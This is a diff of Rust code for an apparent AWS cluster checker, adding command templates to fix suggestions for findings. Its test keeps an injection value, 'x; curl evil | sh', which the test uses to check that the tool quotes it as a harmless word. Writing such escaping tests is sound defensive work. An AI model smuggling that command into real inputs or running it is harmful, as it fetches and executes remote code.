@@ -11,6 +11,7 @@ use crate::{
         printable::{Printable, printable},
         text::shell_word,
     },
+    checks::fix::{CommandContext, FixTemplate},
     settings::policy::Policy,
 };
 
@@ -29,8 +30,9 @@ pub struct Check {
     pub looks_at: &'static str,
     /// The calls that tell those facts: where one of them is denied or fails, the check is Unknown.
     pub asks: &'static [&'static Call],
-    /// How to fix it; `{subject}` stands for what the finding is about, as a word of a shell's
-    /// command line, and `{region}` for the region that clusters are in.
+    /// How to fix it. Commands are between backticks, without region and profile, which are added
+    /// to all of them alike; `{subject}` stands for what the finding is about, as a word of a
+    /// shell's command line.
     pub fix: &'static str,
     /// Where AWS or the setup guide says so.
     pub source: &'static str,
@@ -120,9 +122,47 @@ pub struct Finding {
     /// names it. Not recorded: there it is the subject.
     #[serde(skip)]
     pub cluster: Option<ClusterId>,
+    /// What `fix` is filled in from, where it holds commands.
+    #[serde(skip)]
+    pub(crate) template: Option<FixTemplate>,
+    /// What of `fix` a shell can run, line by line.
+    #[serde(skip)]
+    pub(crate) commands: Vec<Printable>,
+    /// Whether those lines are more than the commands that `fix` already shows.
+    #[serde(skip)]
+    pub(crate) has_script: bool,
 }
 
 impl Finding {
+    /// The same with another fix; its commands still lack region and profile.
+    pub(crate) fn with_fix(self, template: FixTemplate) -> Self {
+        let fix = Some(template.fill(&CommandContext::default()).text);
+        Self { fix, template: Some(template), ..self }
+    }
+
+    /// The same with another fix, which holds no command: others may have written parts of it.
+    pub(crate) fn with_plain_fix(self, fix: impl Into<Printable>) -> Self {
+        Self { fix: Some(fix.into()), template: None, ..self }
+    }
+
+    /// The same, where its fix has `{name}` as one word of a shell.
+    pub(crate) fn with_value(self, name: &'static str, value: &str) -> Self {
+        match self.template.clone() {
+            Some(template) => self.with_fix(template.word(name, value)),
+            None => self,
+        }
+    }
+
+    /// Makes the commands of its fix complete as pasted.
+    pub(crate) fn complete_fix(&mut self, context: &CommandContext) {
+        if let (Some(fix), Some(template)) = (&mut self.fix, &self.template) {
+            let filled = template.fill(context);
+            *fix = filled.text;
+            self.has_script = !filled.script.is_empty();
+            self.commands = if self.has_script { filled.script } else { filled.commands };
+        }
+    }
+
     /// Failed or Unknown: something is left to do.
     #[must_use]
     pub fn is_open(&self) -> bool {
@@ -196,10 +236,10 @@ pub(crate) struct CheckSubject {
 }
 
 impl Check {
-    /// How to fix what it finds of `subject`. In a command, and in a sentence alike, a subject that is
-    /// more than a plain word stands in quotes: it is a name, and never an action.
-    fn fix_of(&self, subject: &Printable) -> Printable {
-        printable!("{}", self.fix.replace("{subject}", &shell_word(subject)))
+    /// How to fix what it finds of `subject`. In a command, and in a sentence alike, a subject that
+    /// is more than a plain word stands in quotes: it is a name, and never an action.
+    pub(crate) fn fix_of(&self, subject: &Printable) -> FixTemplate {
+        FixTemplate::new(self.fix).words("subject", printable!("{}", shell_word(subject)))
     }
 
     /// Starts a finding on `subject`, for which `wanted` should hold.
@@ -245,6 +285,9 @@ impl CheckSubject {
             hidden: false,
             excepted: None,
             cluster: self.cluster,
+            template: None,
+            commands: Vec::new(),
+            has_script: false,
         }
     }
 
@@ -258,7 +301,7 @@ impl CheckSubject {
 
     pub(crate) fn failed(self, saw: impl Into<Printable>) -> Finding {
         let fix = self.check.fix_of(&self.subject);
-        self.finding(Status::Failed, saw.into(), Some(fix))
+        self.finding(Status::Failed, saw.into(), None).with_fix(fix)
     }
 
     /// Proved or Failed, by `holds`.
@@ -268,6 +311,11 @@ impl CheckSubject {
 
     pub(crate) fn unknown(self, saw: impl Into<Printable>, fix: impl Into<Printable>) -> Finding {
         self.finding(Status::Unknown, saw.into(), Some(fix.into()))
+    }
+
+    /// Unknown, with commands in its fix.
+    pub(crate) fn unknown_with(self, saw: impl Into<Printable>, fix: FixTemplate) -> Finding {
+        self.finding(Status::Unknown, saw.into(), None).with_fix(fix)
     }
 
     /// Unknown, because what it is about is not there yet, or no longer.
@@ -360,7 +408,7 @@ mod tests {
         why: "",
         looks_at: "",
         asks: &[],
-        fix: "look at {subject}, or make it: aws make --name {subject}",
+        fix: "look at {subject}, or make it: `aws emr make --name {subject}`",
         source: "",
     };
 
@@ -373,13 +421,13 @@ mod tests {
         assert_eq!(
             finding.fix.as_deref(),
             Some(
-                r"look at 'x; curl evil | sh\u{a}', or make it: aws make --name 'x; curl evil | sh\u{a}'"
+                r"look at 'x; curl evil | sh\u{a}', or make it: `aws emr make --name 'x; curl evil | sh\u{a}'`"
             )
         );
         assert_eq!(finding.in_brief(), r"named: saw \u{1b}[2J, wanted a\u{202e}b");
         assert_eq!(
             NAMED.on("acme-sc", "").failed("").fix.as_deref(),
-            Some("look at acme-sc, or make it: aws make --name acme-sc")
+            Some("look at acme-sc, or make it: `aws emr make --name acme-sc`")
         );
     }
 }
